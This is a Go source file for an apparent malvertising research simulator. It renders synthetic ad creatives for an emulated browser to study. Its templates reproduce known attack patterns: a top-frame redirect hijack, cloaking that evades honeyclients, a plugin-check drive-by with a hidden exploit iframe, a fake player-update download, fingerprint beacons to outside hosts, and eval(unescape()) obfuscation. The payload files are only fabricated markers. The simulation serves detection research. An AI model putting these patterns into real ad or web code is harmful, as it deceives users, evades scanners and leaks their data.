@@ -1,0 +1,234 @@
+// Package adserver turns the abstract ecosystem (webgen sites, adnet
+// networks and campaigns) into a living HTTP universe: publisher pages with
+// ad iframes, ad-network serve endpoints that 302 through arbitration
+// chains, creative hosts serving the ad markup and images, and payload
+// hosts serving executables and Flash.
+//
+// Everything the paper's crawler saw over the wire — pages, iframes,
+// redirects, scripts, downloads — is produced here and consumed by the
+// emulated browser.
+package adserver
+
+import (
+	"fmt"
+	"strings"
+
+	"madave/internal/adnet"
+	"madave/internal/stats"
+)
+
+// CreativeHTML renders the iframe document for one served impression of a
+// campaign. Every impression embeds its impression ID (real ad markup
+// carries cache busters and session tokens the same way), which is why the
+// paper could collect hundreds of thousands of *unique* advertisements.
+// It is exported for tooling and tests that need a specific campaign's
+// creative without brute-forcing the auction.
+func CreativeHTML(c *adnet.Campaign, imp string, variant int) string {
+	var b strings.Builder
+	b.WriteString("<html><head><title>ad</title></head><body>")
+	switch c.Kind {
+	case adnet.KindBenign, adnet.KindBlacklisted:
+		b.WriteString(scriptTag(benignScript(c, imp, variant)))
+	case adnet.KindLinkHijack:
+		b.WriteString(scriptTag(maybeObfuscate(hijackScript(c, imp), imp)))
+	case adnet.KindCloaking:
+		b.WriteString(scriptTag(maybeObfuscate(cloakingScript(c, imp), imp)))
+	case adnet.KindDriveBy:
+		b.WriteString(scriptTag(maybeObfuscate(driveByScript(c, imp), imp)))
+	case adnet.KindDeceptive:
+		b.WriteString(deceptiveHTML(c, imp))
+	case adnet.KindMaliciousFlash:
+		b.WriteString(flashHTML(c, imp))
+	case adnet.KindModelOnly:
+		b.WriteString(scriptTag(obfuscate(obfuscate(modelOnlyScript(c, imp)))))
+	}
+	b.WriteString("</body></html>")
+	return b.String()
+}
+
+func scriptTag(src string) string {
+	return "<script>" + src + "</script>"
+}
+
+// benignScript renders a banner linking to the landing page. Variant 3
+// uses the asynchronous DOM-API loader pattern modern ad tags prefer;
+// the others use classic document.write markup.
+func benignScript(c *adnet.Campaign, imp string, variant int) string {
+	w := bannerSizes[variant%len(bannerSizes)]
+	if variant%4 == 3 {
+		return fmt.Sprintf(
+			`var a = document.createElement("a");
+a.href = "http://%s/offer?c=%s&imp=%s";
+a.innerHTML = '<img src="http://%s/banners/b%d_%s.png?imp=%s" width="%d" height="%d">';
+document.body.appendChild(a);`,
+			c.LandingHost, c.ID, imp,
+			c.CreativeHost, variant, c.ID, imp, w.w, w.h)
+	}
+	return fmt.Sprintf(
+		`var land = "http://%s/offer?c=%s&imp=%s";
+document.write('<a href="' + land + '"><img src="http://%s/banners/b%d_%s.png?imp=%s" width="%d" height="%d"></a>');`,
+		c.LandingHost, c.ID, imp,
+		c.CreativeHost, variant, c.ID, imp, w.w, w.h)
+}
+
+var bannerSizes = []struct{ w, h int }{
+	{728, 90}, {300, 250}, {160, 600}, {468, 60}, {320, 50},
+}
+
+// hijackScript is the §2.3 attack: the iframed ad rewrites the top-level
+// page's location through the BOM, which the Same-Origin Policy does not
+// prevent.
+func hijackScript(c *adnet.Campaign, imp string) string {
+	return fmt.Sprintf(
+		`document.write('<img src="http://%s/banners/b0_%s.png?imp=%s" width="300" height="250">');
+top.location = "http://%s/win?imp=%s";`,
+		c.CreativeHost, c.ID, imp, c.LandingHost, imp)
+}
+
+// cloakingScript probes the environment. Analysis systems (honeyclients)
+// present sparse plugin lists and headless screens; the script sends them
+// to a benign search engine or a nonexistent domain, so the ad looks clean,
+// while real users get the scam landing page. Wepawet's heuristics flagged
+// exactly this pattern (redirects to NX domains or to Google/Bing).
+func cloakingScript(c *adnet.Campaign, imp string) string {
+	// Half the cloakers bail to a benign site, half to a throwaway NX
+	// domain, keyed deterministically off the campaign ID.
+	bail := `"http://www.google.com/"`
+	if sumBytes(c.ID)%2 == 0 {
+		bail = fmt.Sprintf(`"http://nx%s.com/"`, strings.TrimPrefix(c.ID, "cmp-"))
+	}
+	return fmt.Sprintf(
+		`if (navigator.plugins.length < 3 || screen.width < 800) {
+	window.location = %s;
+} else {
+	var land = "http://%s/offer?c=%s&imp=%s";
+	document.write('<a href="' + land + '"><img src="http://%s/banners/b1_%s.png?imp=%s" width="300" height="250"></a>');
+}`,
+		bail, c.LandingHost, c.ID, imp, c.CreativeHost, c.ID, imp)
+}
+
+// driveByScript is the §2.1 attack: enumerate plugins, and when a
+// vulnerable version is present, plant an invisible iframe pointing at the
+// exploit server. No user interaction is required.
+func driveByScript(c *adnet.Campaign, imp string) string {
+	return fmt.Sprintf(
+		`document.write('<img src="http://%s/banners/b2_%s.png?imp=%s" width="728" height="90">');
+var found = false;
+var ps = navigator.plugins;
+for (var i = 0; i < ps.length; i++) {
+	if (ps[i].name == "Shockwave Flash" && ps[i].version < 11) { found = true; }
+	if (ps[i].name == "Java" && ps[i].version < 8) { found = true; }
+}
+if (found) {
+	document.write('<iframe src="http://%s/exploit?imp=%s" width="1" height="1"></iframe>');
+}`,
+		c.CreativeHost, c.ID, imp, c.PayloadHost, imp)
+}
+
+// deceptiveHTML is the §2.2 attack: a fake player-update prompt whose
+// "update" is malware; a timer also pushes the download for users who
+// hesitate.
+func deceptiveHTML(c *adnet.Campaign, imp string) string {
+	return fmt.Sprintf(
+		`<div class="alert"><b>Your video player is out of date!</b> Update now to continue watching.</div>
+<a href="http://%s/player_update.exe?imp=%s">Update Player</a>
+<script>
+setTimeout(function() { window.location = "http://%s/player_update.exe?imp=%s"; }, 1500);
+</script>`,
+		c.PayloadHost, imp, c.PayloadHost, imp)
+}
+
+// flashHTML embeds a malicious Flash movie.
+func flashHTML(c *adnet.Campaign, imp string) string {
+	return fmt.Sprintf(
+		`<embed src="http://%s/promo_%s.swf?imp=%s" type="application/x-shockwave-flash" width="300" height="250">`,
+		c.PayloadHost, c.ID, imp)
+}
+
+// modelOnlyScript behaves like malware infrastructure (plugin enumeration
+// plus beacons to several unrelated domains) without a payload, so only
+// behavioural models flag it.
+func modelOnlyScript(c *adnet.Campaign, imp string) string {
+	return fmt.Sprintf(
+		`var fp = "";
+var ps = navigator.plugins;
+for (var i = 0; i < ps.length; i++) { fp += ps[i].name + ":" + ps[i].version + ";"; }
+fp += screen.width + "x" + screen.height;
+document.write('<img src="http://stat1-%[1]s.com/px.gif?d=' + escape(fp) + '" width="1" height="1">');
+document.write('<img src="http://stat2-%[1]s.com/px.gif?imp=%[2]s" width="1" height="1">');
+document.write('<img src="http://stat3-%[1]s.com/px.gif?r=' + Math.floor(Math.random() * 100000) + '" width="1" height="1">');
+document.write('<img src="http://%[3]s/banners/b3_%[4]s.png?imp=%[2]s" width="300" height="250">');`,
+		strings.TrimPrefix(c.ID, "cmp-"), imp, c.CreativeHost, c.ID)
+}
+
+// obfuscate wraps src in an eval(unescape(...)) layer, the classic
+// malvertising obfuscation. The honeyclient sees through it because the
+// decoded program runs inside the same instrumented interpreter.
+func obfuscate(src string) string {
+	var b strings.Builder
+	b.WriteString(`eval(unescape("`)
+	for i := 0; i < len(src); i++ {
+		fmt.Fprintf(&b, "%%%02x", src[i])
+	}
+	b.WriteString(`"));`)
+	return b.String()
+}
+
+// maybeObfuscate obfuscates deterministically for roughly half of all
+// impressions, keyed off the impression ID, so the corpus contains both
+// plain and obfuscated instances of the same campaigns.
+func maybeObfuscate(src, imp string) string {
+	if sumBytes(imp)%2 == 0 {
+		return obfuscate(src)
+	}
+	return src
+}
+
+func sumBytes(s string) int {
+	n := 0
+	for i := 0; i < len(s); i++ {
+		n += int(s[i])
+	}
+	return n
+}
+
+// payloadEXE fabricates the executable a payload host serves. The bytes
+// look like a PE file and carry the campaign marker the AV-engine
+// signatures (and nothing else in the simulation) recognize.
+func payloadEXE(c *adnet.Campaign) []byte {
+	var b strings.Builder
+	b.WriteString("MZ\x90\x00\x03")
+	fmt.Fprintf(&b, "EVIL:%s:%s;", c.ID, c.Kind)
+	// Deterministic filler so files have realistic, stable sizes.
+	rng := stats.NewRNGFromString("exe:" + c.ID)
+	for b.Len() < 4096 {
+		b.WriteString(rng.RandHex(32))
+	}
+	return []byte(b.String())
+}
+
+// payloadSWF fabricates a malicious Flash movie body.
+func payloadSWF(c *adnet.Campaign) []byte {
+	var b strings.Builder
+	b.WriteString("FWS\x0a")
+	fmt.Fprintf(&b, "EVILSWF:%s;", c.ID)
+	rng := stats.NewRNGFromString("swf:" + c.ID)
+	for b.Len() < 2048 {
+		b.WriteString(rng.RandHex(32))
+	}
+	return []byte(b.String())
+}
+
+// benignEXE fabricates a clean installer (the legitimate plugin-update case
+// the paper mentions: sometimes a real Flash installer is the right
+// answer). AV engines find nothing in it.
+func benignEXE(name string) []byte {
+	var b strings.Builder
+	b.WriteString("MZ\x90\x00\x03")
+	fmt.Fprintf(&b, "CLEANINSTALLER:%s;", name)
+	rng := stats.NewRNGFromString("clean:" + name)
+	for b.Len() < 4096 {
+		b.WriteString(rng.RandHex(32))
+	}
+	return []byte(b.String())
+}
